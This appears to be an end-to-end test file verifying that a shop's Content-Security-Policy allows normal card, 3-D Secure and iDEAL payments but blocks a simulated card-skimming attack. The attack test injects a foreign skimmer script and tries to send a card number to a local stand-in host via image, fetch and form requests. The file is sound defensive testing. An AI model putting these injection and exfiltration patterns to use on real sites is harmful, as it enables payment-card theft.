/**
 * The shop under the Content-Security-Policy of the SDK's `contentSecurityPolicy`: no payment method breaks it, and it
 * stops what a skimming script would do.
 */
/* What runs inside the page: */
/* global document, Image */
const http = require("node:http");
const { HOSTED, choose, fillCard, fillCheckout, pay, payHosted, placed } = require("./shopping.cjs");

const VISA = "4111111111111111";
const CHALLENGE = "4000000000003063";

/** A page that collects the violations of all its documents, frames and redirects included. */
async function watchedPage(context) {
  const page = await context.page();
  page.violations = [];
  await page.exposeFunction("policyViolated", (violation) => page.violations.push(violation));
  await page.addInitScript(() =>
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      globalThis.policyViolated(`${effectiveDirective} ${blockedURI}`),
    ),
  );
  return page;
}

/** Pays one cart as `how` does, up to the order. */
async function buy(context, how, country) {
  const page = await watchedPage(context);
  await fillCheckout(context, page, { handle: "tall-vase", country });
  await how(page);
  await placed(page);
  context.expectSame("violations", page.violations, []);
  context.expectSame("errors in the shop", page.problems, []);
}

const byCard = (number) => async (page) => {
  await fillCard(page, number);
  await pay(page);
};

/** The gateway's card page, with 3-D Secure, in the shop's page or instead of it. */
const hosted = (isInside) => async (page) => {
  await page.getByLabel("Demo: show the secure card page in this page").setChecked(isInside);
  await choose(page, HOSTED);
  await pay(page);
  const where = isInside ? page.frameLocator('iframe[title="Secure card payment"]') : page;
  await payHosted(where, CHALLENGE);
  await where.locator("#approve").click();
};

/** Another origin, which answers everything with a script and counts what it was asked for. */
async function foreignOrigin() {
  const asked = [];
  const server = http.createServer((req, res) => {
    asked.push(req.url);
    res.setHeader("Access-Control-Allow-Origin", "*");
    res.setHeader("Content-Type", "text/javascript").end("globalThis.foreignCodeRan = true;");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${server.address().port}`, asked, close: () => server.close() };
}

/** As after an attack on the shop's server: its HTML contains foreign code. */
async function injectHtml(page, { shopUrl, foreign }) {
  const code = "globalThis.foreignCodeRan = true";
  // A changed page no longer counts as loopback, from which Chrome allows requests to loopback. Others do not know it.
  const permissions = ["local-network-access"];
  await page
    .context()
    .grantPermissions(permissions, { origin: shopUrl })
    .catch(() => undefined);
  const injected = `<script src="${foreign}/skimmer.js"></script><script>${code}</script><img alt="" src="/icon.svg" onload="${code}">`;
  await page.route(`${shopUrl}/`, async (route) => {
    const response = await route.fetch({ maxRetries: 2 });
    const html = await response.text();
    await route.fulfill({ response, body: html.replace("</body>", `${injected}</body>`) });
  });
}

/** What code in the page can try, beside the card form. */
async function attack(foreign) {
  const refused = [];
  const append = (name, properties) => {
    try {
      document.body.append(Object.assign(document.createElement(name), properties));
    } catch {
      refused.push(name);
    }
  };
  append("script", { src: `${foreign}/skimmer.js` });
  append("div", { innerHTML: `<img src="${foreign}/?card=4111">` });
  append("iframe", { src: `${foreign}/card-form` });
  append("link", { rel: "stylesheet", href: `${foreign}/skin.css` });
  append("style", { textContent: "input[value^='4'] { color: red }" });
  append("base", { href: foreign });
  new Image().src = `${foreign}/?card=4111`;
  const sent = await fetch(`${foreign}/collect`, { method: "POST", body: "4111" }).catch(() => null);
  await new Promise((resolve) => setTimeout(resolve, 500));
  return { ran: globalThis.foreignCodeRan === true, sent: sent !== null, refused };
}

/** Last, because Playwright then waits for a navigation that never comes. */
async function postForm(foreign) {
  const form = Object.assign(document.createElement("form"), { action: `${foreign}/collect`, method: "post" });
  document.body.append(form);
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 500));
}

const BLOCKED = [
  "base-uri",
  "connect-src",
  "form-action",
  "frame-src",
  "img-src",
  "require-trusted-types-for",
  "script-src-attr",
  "script-src-elem",
  "style-src-elem",
];

module.exports = [
  {
    name: "content policy: a card, with 3-D Secure too, is paid without a violation",
    run: async (context) => {
      await buy(context, byCard(VISA));
      await buy(context, async (page) => {
        await byCard(CHALLENGE)(page);
        await page.locator("#approve").click();
      });
    },
  },
  {
    name: "content policy: the card page in the iFrame, with 3-D Secure inside it, is paid without a violation",
    run: (context) => buy(context, hosted(true)),
  },
  {
    name: "content policy: redirects to the card page and to iDEAL are paid without a violation",
    run: async (context) => {
      await buy(context, hosted(false));
      const ideal = async (page) => {
        await choose(page, "iDEAL");
        await pay(page);
        await page.locator("#pay-now").click();
      };
      await buy(context, ideal, "nl");
    },
  },
  {
    name: "content policy: foreign and inline scripts do not run beside the card form, and nothing is sent elsewhere",
    run: async (context) => {
      const page = await watchedPage(context);
      const { shopUrl } = context.stack;
      const foreign = await foreignOrigin();
      try {
        await injectHtml(page, { shopUrl, foreign: foreign.url });
        await fillCheckout(context, page, { handle: "tall-vase" });
        await fillCard(page, VISA);
        const result = await page.evaluate(attack, foreign.url);
        context.expectSame("result", result, { ran: false, sent: false, refused: ["script", "div"] });
        await pay(page);
        await placed(page);
        await page.evaluate(postForm, foreign.url);
        context.expectSame("requests elsewhere", foreign.asked, []);
      } finally {
        foreign.close();
      }
      const { stack, until } = context;
      const line = `acquiring.csp_violation directive=script-src-elem blocked=${foreign.url} page=${shopUrl}/`;
      await until("the store logs the report", () => stack.log().includes(line));
      const blocked = new Set(page.violations.map((violation) => violation.split(" ")[0]));
      context.expectSame("blocked by", [...blocked].sort(), BLOCKED);
    },
  },
  {
    name: "content policy: reports that are too large, invalid or of another site change nothing and are not logged",
    run: async ({ stack, send, expectSame }) => {
      const url = `${stack.backendUrl}/acquiring/csp-reports`;
      const before = stack.log().split("acquiring.csp_violation").length;
      const report = (page) =>
        JSON.stringify({
          "csp-report": { "document-uri": page, "blocked-uri": "eval", "effective-directive": "script-src" },
        });
      const post = async (body) =>
        (await fetch(url, { method: "POST", headers: { "content-type": "application/csp-report" }, body })).status;
      expectSame("another site's page", await post(report("https://elsewhere.example/")), 204);
      expectSame("no report", await post("{"), 204);
      expectSame("no body", (await send(url, {})).status, 204);
      expectSame("too large", await post(report(`${stack.shopUrl}/${"a".repeat(9_000)}`)), 413);
      expectSame("read", (await fetch(url)).status, 404);
      expectSame("lines", stack.log().split("acquiring.csp_violation").length, before);
    },
  },
];
